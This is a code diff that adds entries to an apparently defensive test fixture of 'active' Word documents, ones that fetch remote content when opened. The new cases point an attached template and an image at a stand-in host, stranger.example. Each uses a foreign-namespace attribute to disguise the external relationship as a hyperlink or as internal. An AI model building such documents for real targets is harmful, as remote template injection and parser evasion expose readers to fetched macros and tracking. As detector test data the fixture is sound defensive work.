@@ -46,6 +46,16 @@ const instruction = (text: string) => `<w:r><w:instrText>${text}</w:instrText></
 
 /** Word documents that run or fetch something when opened. */
 export const activeDocxs: Readonly<Record<string, Buffer>> = {
+  'a template whose type another namespace denies': related(
+    `${office}/attachedTemplate`,
+    'https://stranger.example/a.dotm',
+    `${external} xmlns:x="urn:x" x:Type="${office}/hyperlink"`,
+  ),
+  'an image from elsewhere that another namespace calls internal': related(
+    `${office}/image`,
+    'https://stranger.example/a.png',
+    `${external} xmlns:x="urn:x" x:TargetMode="Internal"`,
+  ),
   'a template from elsewhere': related(
     `${office}/attachedTemplate`,
     'https://stranger.example/a.dotm',
